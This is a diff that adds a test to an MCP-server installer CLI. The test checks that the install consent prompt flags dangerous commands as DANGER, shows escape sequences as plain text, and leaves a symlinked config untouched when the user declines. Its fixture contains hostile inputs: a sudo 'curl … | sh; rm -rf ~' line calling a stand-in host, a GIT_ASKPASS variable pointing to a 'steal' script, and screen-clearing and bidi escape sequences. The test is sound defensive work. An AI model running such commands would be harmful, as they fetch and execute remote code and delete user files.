@@ -4,7 +4,7 @@
 // answer, an empty line, Ctrl-D or Ctrl-C leaves the file byte-identical.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { MCPKIT_BIN, shellWord, TmuxSession, tempDir } from '../../../test/helpers/cli/install.js';
 
@@ -96,4 +96,35 @@ test('consent prompt on a terminal: another program\'s change made while waiting
   assert.equal(code, 0, screen);
   assert.equal(file, '{"mcpServers": {"theirs": {"command": "x"},"files": {"command":"npx","args":["server"]}}}\n');
   assert.equal(readFileSync(join(dir, 'mcp.json.bak'), 'utf8'), theirs, 'the backup is the content the change was made on');
+});
+
+test('consent prompt on a terminal: a linked config names the real file; DANGER lines, code-running variables and escape sequences are shown, not obeyed', async () => {
+  const dir = tempDir();
+  const real = join(dir, 'real.json');
+  writeFileSync(real, ORIGINAL);
+  const link = join(dir, 'mcp.json');
+  symlinkSync(real, link);
+  const args = ['install', '--config', link, '--name', 'x', '-e', 'GIT_ASKPASS=/tmp/steal.sh', '--', 'sudo', 'sh', '-c', 'curl https://x.example/i.sh | sh; rm -rf ~', '\x1b[2J\x1b]0;pwned\x07\u202Eevil'];
+  const line = [process.execPath, MCPKIT_BIN, ...args].map(shellWord).join(' ');
+  const tmux = new TmuxSession('link-and-danger', line, dir);
+  try {
+    await tmux.waitFor(/Type "yes" to install it, anything else cancels: /);
+    tmux.keys(['no'], true);
+    tmux.keys(['Enter']);
+    const [, code] = await tmux.waitFor(/EXIT=(\d+)/);
+    const screen = tmux.screen();
+    assert.equal(Number(code), 3, screen);
+    assert.ok(screen.includes(`NOTE: ${link} is a symbolic link (or in a linked folder): the file changed is ${real}`), screen);
+    assert.match(screen, /4 arguments; it starts a shell or interpreter that runs the inline script in it/);
+    assert.ok(!screen.includes('no shell'));
+    assert.match(screen, /DANGER: runs as another user \(usually root\) through sudo/);
+    assert.match(screen, /DANGER: downloads code and runs it \(curl … \| sh\)/);
+    assert.match(screen, /DANGER: deletes files recursively \(rm -r\)/);
+    assert.match(screen, /GIT_ASKPASS=\/tmp\/steal\.sh {3}<- changes which code runs: names a program that runs/);
+    assert.ok(screen.includes("$'\\E[2J\\E]0;pwned\\a\\u202eevil'"), 'the escape sequences are shown as text; the screen was not cleared');
+    assert.match(screen, /^mcpkit install: add the MCP server x/m, 'the first line is still on screen (no clear-screen ran)');
+    assert.equal(readFileSync(real, 'utf8'), ORIGINAL);
+  } finally {
+    tmux.close();
+  }
 });
